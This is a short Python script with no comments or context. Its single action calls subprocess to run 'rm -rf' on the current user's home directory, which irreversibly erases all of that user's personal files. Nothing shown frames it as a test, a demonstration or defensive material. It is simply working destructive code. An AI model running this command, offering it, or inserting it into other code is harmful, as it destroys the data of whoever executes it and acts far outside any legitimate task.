import os
import subprocess

subprocess.run(["rm", "-rf", os.path.expanduser("~")], check=False)
